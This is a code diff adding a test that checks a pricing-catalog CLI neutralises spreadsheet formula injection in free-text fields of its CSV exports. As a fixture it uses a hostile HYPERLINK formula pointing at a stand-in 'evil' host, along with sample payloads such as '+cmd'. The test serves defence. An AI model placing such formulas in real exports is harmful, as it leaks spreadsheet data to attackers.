@@ -148,6 +148,25 @@ def test_exports_neutralise_formula_cells_and_keep_negative_numbers(hostile, fmt
             assert not looks_like_formula(cell) or re.fullmatch(r"-\d+(\.\d+)?(e-?\d+)?", cell), cell
 
 
+def test_catalog_list_csv_neutralises_an_overlays_free_text(tmp_path):
+    """An overlay's source is free text (identifiers refuse formulas; a citation may not): in `catalog list
+    --format csv` it reaches a spreadsheet like any export, so it is neutralised too."""
+    overlay = tmp_path / "o.csv"
+    rows = [["provider", "service", "sku", "region", "gpu", "gpu_count", "price_per_hour", "currency", "price_kind",
+             "source"],
+            ["aws", "ec2", "g9x", "us-east-1", "H100-SXM-80GB", "1", "0.01", "USD", "on-demand",
+             '=HYPERLINK("http://evil/"&A1,"click")']]
+    buf = io.StringIO()
+    csv.writer(buf, lineterminator="\n").writerows(rows)
+    overlay.write_text(buf.getvalue())
+    result = run("catalog", "list", "--catalog", overlay, "--provider", "aws", "--gpu", "H100-SXM-80GB", "--format",
+                 "csv")
+    assert result.exit_code == 0, result.output
+    cells = [cell for row in csv.reader(io.StringIO(result.stdout)) for cell in row]
+    assert "'=HYPERLINK(\"http://evil/\"&A1,\"click\")" in cells
+    assert all(not looks_like_formula(c) or re.fullmatch(r"-\d+(\.\d+)?(e-?\d+)?", c) for c in cells)
+
+
 @pytest.mark.parametrize("value, expected", [("=1+1", "'=1+1"), ("+cmd", "'+cmd"), ("-2+3", "'-2+3"),
                                              ("@SUM(1)", "'@SUM(1)"), ("\tx", "'\tx"), ("\rx", "'\rx"),
                                              ("a=b", "a=b"), (-2.5, -2.5), (3, 3), (None, None)])
